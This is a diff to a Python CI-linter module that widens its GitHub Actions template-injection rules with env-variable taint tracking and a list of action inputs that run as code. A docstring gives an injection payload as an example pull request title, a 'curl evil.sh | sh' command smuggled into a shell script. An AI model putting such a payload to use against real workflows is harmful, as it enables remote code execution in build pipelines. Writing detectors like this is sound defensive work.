@@ -3,7 +3,7 @@
 from __future__ import annotations
 
 import re
-from collections.abc import Iterable, Mapping
+from collections.abc import Iterable, Iterator, Mapping
 from typing import Any
 
 from mlopsgen.diagnostics import Severity
@@ -11,8 +11,9 @@ from mlopsgen.policy.base import Finding, Option, OptionType, PipelineRule
 from mlopsgen.policy.readers._util import as_list, as_map, as_str
 from mlopsgen.policy.rules._common import scripts
 from mlopsgen.policy.rules.perm import PRIVILEGED_EVENTS
-from mlopsgen.policy.view import PipelineView
+from mlopsgen.policy.view import JobView, PipelineView
 from mlopsgen.spec.model import Platform
+from mlopsgen.yamlio import JsonPath
 
 __all__ = [
     "AzureMacroInjection",
@@ -37,14 +38,117 @@ _UNTRUSTED = re.compile(
     r"client_payload\.[\w.*\[\]-]+|changes\.[\w.*\[\]-]+|"
     r"[\w.*\[\]]*\.(?:title|body|head_ref|message))|github\.head_ref"
 )
+#: A whole event object (or one of its parts that holds text an outsider wrote) turned into
+#: text: ``toJSON(github.event)`` carries every title and body of the event.
+_WHOLE_EVENT = re.compile(
+    r"\b(?:toJSON|join|format)\(\s*github(?:\.event(?:\.(?:pull_request|issue|comment|review|"
+    r"review_comment|discussion|head_commit|commits|workflow_run|client_payload|changes))?)?"
+    r"\s*[,)]",
+    re.IGNORECASE,
+)
+_INPUT = re.compile(r"\b(?:github\.event\.)?inputs\.([\w-]+)")
+_ENV = re.compile(r"\benv\.([\w-]+)")
+#: Input types whose values cannot carry code (``choice`` values are listed in the file).
+_SAFE_INPUT_TYPES = frozenset({"boolean", "number", "choice", "environment"})
+#: Action inputs that are evaluated as code (CodeQL's and zizmor's sink models).
+CODE_INPUTS: dict[str, tuple[str, ...]] = {
+    "actions/github-script": ("script",),
+    "8398a7/action-slack": ("custom_payload",),
+    "addnab/docker-run-action": ("run",),
+    "amadevus/pwsh-script": ("script",),
+    "appleboy/ssh-action": ("script",),
+    "azure/cli": ("inlinescript",),
+    "azure/powershell": ("inlinescript",),
+    "cardinalby/js-eval-action": ("expression",),
+    "devorbitus/yq-action-output": ("cmd",),
+    "gautamkrishnar/blog-post-workflow": ("item_exec",),
+    "imjohnbo/issue-bot": ("body",),
+    "jannekem/run-python-script-action": ("script",),
+    "lucasbento/auto-close-issues": ("issue-close-message",),
+    "mikefarah/yq": ("cmd",),
+    "roots/issue-closer-action": ("issue-close-message",),
+    "sergeysova/jq-action": ("cmd",),
+    "skitionek/notify-microsoft-teams": ("overwrite",),
+    "tibdex/backport": ("title_template", "body_template"),
+}
 
 
-def _untrusted(text: str, *, include_inputs: bool) -> list[str]:
-    out = []
-    for expr in _EXPR.findall(text):
-        if _UNTRUSTED.search(expr) or (include_inputs and "inputs." in expr):
-            out.append(expr.strip())
-    return out
+class _Taint:
+    """What counts as untrusted in one workflow: contexts, string inputs, tainted env names."""
+
+    def __init__(self, view: PipelineView, *, include_inputs: bool):
+        self.view = view
+        self.include_inputs = include_inputs
+        self.safe_inputs: set[str] = set()
+        on = as_map(view.data.get("on"))
+        for event in ("workflow_dispatch", "workflow_call"):
+            for name, spec in as_map(as_map(on.get(event)).get("inputs")).items():
+                if as_str(as_map(spec).get("type")) in _SAFE_INPUT_TYPES:
+                    self.safe_inputs.add(str(name))
+
+    def _direct(self, expr: str) -> str | None:
+        match = _UNTRUSTED.search(expr) or _WHOLE_EVENT.search(expr)
+        if match:
+            return match.group(0).rstrip(",) ").strip()
+        if self.include_inputs:
+            for name in _INPUT.findall(expr):
+                if name not in self.safe_inputs:
+                    return f"inputs.{name}"
+        return None
+
+    def tainted_env(self, *envs: Mapping[str, Any]) -> dict[str, str]:
+        """Env names (nearest definition wins) whose value expands an untrusted context."""
+        merged: dict[str, Any] = {}
+        for env in envs:
+            merged.update(env)
+        out = {}
+        for name, value in merged.items():
+            text = as_str(value) or ""
+            for expr in _EXPR.findall(text) if "${{" in text else ():
+                source = self._direct(expr)
+                if source:
+                    out[str(name)] = source
+                    break
+        return out
+
+    def find(self, text: str, env: Mapping[str, str]) -> list[str]:
+        """The untrusted expressions in ``text``, as written (``env.X`` names its source)."""
+        out = []
+        for expr in _EXPR.findall(text):
+            source = self._direct(expr)
+            if source is None:
+                name = next((n for n in _ENV.findall(expr) if n in env), None)
+                if name is not None:
+                    source = f"env.{name}"
+            if source:
+                out.append(expr.strip())
+        return out
+
+
+def _injections(
+    view: PipelineView, *, include_inputs: bool, code_inputs: bool
+) -> Iterator[tuple[JobView, str, JsonPath, str]]:
+    """``(job, expression, path, sink)`` per untrusted expression in code."""
+    taint = _Taint(view, include_inputs=include_inputs)
+    for job in view.jobs:
+        for step in job.steps:
+            sinks: list[tuple[str, JsonPath, str]] = []
+            if not code_inputs and step.run is not None and "${{" in step.run:
+                sinks.append((step.run, step.run_path or step.path, "a shell script"))
+            if code_inputs and step.uses:
+                name = step.uses.partition("@")[0].lower()
+                for key in CODE_INPUTS.get(name, ()):
+                    for input_name, value in step.inputs.items():
+                        text = as_str(value)
+                        if str(input_name).lower() == key and text and "${{" in text:
+                            sinks.append((text, (*step.path, "with", input_name), name))
+            if not sinks:
+                continue
+            env = taint.tainted_env(view.env, job.env, step.env)
+            for text, path, sink in sinks:
+                # One finding per expression and script: the position is its first use.
+                for expr in dict.fromkeys(taint.find(text, env)):
+                    yield job, expr, path, sink
 
 
 class TemplateInjection(PipelineRule):
@@ -54,6 +158,22 @@ class TemplateInjection(PipelineRule):
     request title such as ``a"; curl evil.sh | sh; echo "`` becomes code. Pass the value
     through ``env:`` and quote the variable. Critical on triggers where outsiders reach a
     privileged token (``pull_request_target``, ``issue_comment``, ``workflow_run``).
+
+    Untrusted are the event fields an outsider writes (titles, bodies, messages, branch
+    names of pull requests, ``client_payload``), whole event objects turned into text
+    (``toJSON(github.event)``), ``env.X`` when ``X`` is set from one of those (in the
+    step, job or workflow ``env:``), and with ``include_inputs`` the free-text inputs of
+    ``workflow_dispatch`` and ``workflow_call`` (``boolean``, ``number``, ``choice`` and
+    ``environment`` inputs cannot carry code).
+
+    Not reported, unlike zizmor's ``template-injection``: names of this repository's own
+    refs, workflows, labels and release tags (``github.ref``, ``github.ref_name``,
+    ``github.base_ref``, ``github.workflow``, ``label.name``, ``release.tag_name``,
+    ``repository.*``), runner paths (``github.workspace``, ``github.event_path``), values
+    with a fixed character set (``github.actor``, ``*.user.login``, SHAs, numbers, ids,
+    ``event.action``, repository URLs, timestamps), step and job outputs, ``matrix``
+    values and ``env`` values the workflow computes itself: only people with write (or
+    triage) access choose them, or they cannot hold shell syntax.
 
     Anti-pattern::
 
@@ -66,7 +186,7 @@ class TemplateInjection(PipelineRule):
           run: printf '%s\\n' "$TITLE"
 
     Options:
-        include_inputs: also report ``inputs.*`` (workflow_dispatch and workflow_call inputs).
+        include_inputs: also report free-text ``inputs.*`` (workflow_dispatch, workflow_call).
     """
 
     id = "INJ-001"
@@ -83,24 +203,27 @@ class TemplateInjection(PipelineRule):
     def check(self, view: PipelineView, options: Mapping[str, Any]) -> Iterable[Finding]:
         """Yield a finding per untrusted expression in a run script."""
         critical = bool(view.triggers & PRIVILEGED_EVENTS)
-        for job, step, script in scripts(view):
-            if "${{" not in script:
-                continue
-            for expr in _untrusted(script, include_inputs=bool(options["include_inputs"])):
-                yield Finding(
-                    f"job {job.id!r} expands `${{{{ {expr} }}}}` into a shell script",
-                    step.run_path or step.path,
-                    snippet=expr,
-                    hint='map it to an env variable and use "$VAR"',
-                    severity=Severity.ERROR if critical else None,
-                )
+        include_inputs = bool(options["include_inputs"])
+        for job, expr, path, _ in _injections(
+            view, include_inputs=include_inputs, code_inputs=False
+        ):
+            yield Finding(
+                f"job {job.id!r} expands `${{{{ {expr} }}}}` into a shell script",
+                path,
+                snippet=expr,
+                hint='map it to an env variable and use "$VAR"',
+                severity=Severity.ERROR if critical else None,
+            )
 
 
 class ScriptExpressionInjection(PipelineRule):
-    """An untrusted expression is expanded inside code that github-script evaluates.
+    """An untrusted expression is expanded inside code that an action evaluates.
 
     ``actions/github-script`` runs its ``script:`` input as JavaScript; an expression in
-    it is substituted before evaluation, exactly like in a shell ``run:``.
+    it is substituted before evaluation, exactly like in a shell ``run:``. The same holds
+    for the other action inputs that CodeQL and zizmor model as code (``mikefarah/yq``
+    ``cmd``, ``azure/cli`` ``inlineScript``, ``appleboy/ssh-action`` ``script``,
+    ``tibdex/backport`` templates, ...). What counts as untrusted is INJ-001's list.
 
     Anti-pattern::
 
@@ -114,27 +237,32 @@ class ScriptExpressionInjection(PipelineRule):
           env: {TITLE: "${{ github.event.issue.title }}"}
           with:
             script: console.log(process.env.TITLE)
+
+    Options:
+        include_inputs: also report free-text ``inputs.*`` (workflow_dispatch, workflow_call).
     """
 
     id = "INJ-002"
     severity = Severity.HIGH
     platforms = _GITHUB
-    references = ("zizmor template-injection",)
+    options = (Option("include_inputs", OptionType.BOOL, False, "report inputs.* too"),)
+    references = ("zizmor template-injection", "CodeQL actions code-injection sinks")
 
     def check(self, view: PipelineView, options: Mapping[str, Any]) -> Iterable[Finding]:
-        """Yield a finding per untrusted expression in a github-script."""
-        for job in view.jobs:
-            for step in job.steps:
-                if not (step.uses or "").startswith("actions/github-script"):
-                    continue
-                script = as_str(step.inputs.get("script")) or ""
-                for expr in _untrusted(script, include_inputs=False):
-                    yield Finding(
-                        f"job {job.id!r} expands `${{{{ {expr} }}}}` into github-script code",
-                        (*step.path, "with", "script"),
-                        snippet=expr,
-                        hint="pass it through env and read process.env",
-                    )
+        """Yield a finding per untrusted expression in an action input evaluated as code."""
+        critical = bool(view.triggers & PRIVILEGED_EVENTS)
+        include_inputs = bool(options["include_inputs"])
+        for job, expr, path, sink in _injections(
+            view, include_inputs=include_inputs, code_inputs=True
+        ):
+            yield Finding(
+                f"job {job.id!r} expands `${{{{ {expr} }}}}` into code that {sink} "
+                f"evaluates ({path[-1]})",
+                path,
+                snippet=expr,
+                hint="pass it through env and read it from the environment",
+                severity=Severity.ERROR if critical else None,
+            )
 
 
 _AZ_MACROS = re.compile(
